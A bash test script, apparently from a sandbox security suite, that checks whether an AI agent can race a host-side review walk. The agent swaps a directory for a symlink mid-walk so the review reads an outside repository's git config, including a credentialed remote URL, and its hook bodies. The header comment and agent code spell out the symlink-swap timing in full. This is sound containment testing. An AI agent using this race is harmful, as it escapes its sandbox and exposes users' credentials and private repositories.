#!/bin/bash
# 12: what the sandbox can make review's host walk read. Review's walk for
# .git entries (dotGits, direct_walk.go) opens each directory by its full
# path with O_NOFOLLOW on the last component only, and liveMeta reads a
# found .git through OSMetaFS{Dir: that path}, whose noLinkedParents
# checks only the components below Dir. The agent makes x/ with 40,000
# empty subdirectories and x/victim; while review walks x/ (it listed x's
# entries, ~1 s of empty directories to go before victim) the agent
# renames x away and puts a symlink x -> a host path in its place (a
# symlink's target is only a string to the gate). The walk then opens
# x/victim on the host through the symlink: a directory outside the folder
# (here $T/outside/victim, a stand-in for the user's other repository;
# the agent needs only its path). Its .git config and hooks are read and
# shown in the review as the folder's (config with its credentialed
# remote URL, hook bodies). The swap is timed by the harness, 60-300 ms
# after review began (one delay per review: the walk's speed varies with
# the page cache). Got through = a review shows the outside repository's
# hook or config content in 1 or more of 6 reviews. (A swap that git
# status meets instead fails the review: "pathspec ... is beyond a
# symbolic link", seen once under strace.)
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/common.sh"
OUT=$T/outside; mkdir -p "$OUT/victim/.git/hooks" "$OUT/victim/.git/objects" "$OUT/victim/.git/refs"
echo 'ref: refs/heads/main' > "$OUT/victim/.git/HEAD"
printf '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://host-only-token-3f9a@example.invalid/r.git\n' > "$OUT/victim/.git/config"
printf '#!/bin/sh\necho HOST-ONLY-HOOK-7c21\n' > "$OUT/victim/.git/hooks/pre-commit"
git init -q "$T/repo" && cd "$T/repo" || exit 2
mkdir src && echo 'x = 1' > src/a.py && echo '# p' > README.md
write_sandbox direct; up_sandbox
export SETTLE=6 THRESH=1 HIDE_DELAYS=${HIDE_DELAYS-"0.06 0.1 0.14 0.18 0.24 0.3"}
start_agent '
x = "/workspace/x"; out = "'"$OUT"'"
def setup():
    for i in range(40000): os.makedirs(x + "/a%05d" % i)
    os.mkdir(x + "/victim")
def hide(k): os.rename(x, x + ".real"); os.symlink(out, x)
def show(k): os.unlink(x); os.rename(x + ".real", x)
'
live() { test -d x/victim -a ! -L x; }
caught() { ! grep -q 'HOST-ONLY-HOOK-7c21\|host-only-token' "$T/review.json"; }
caught_note() { grep -o '"path": *"[^"]*victim[^"]*"' "$T/review.json" | sort -u | head -3 | tr '\n' ' '; }
rounds 6 live
verdict noquiet
finish
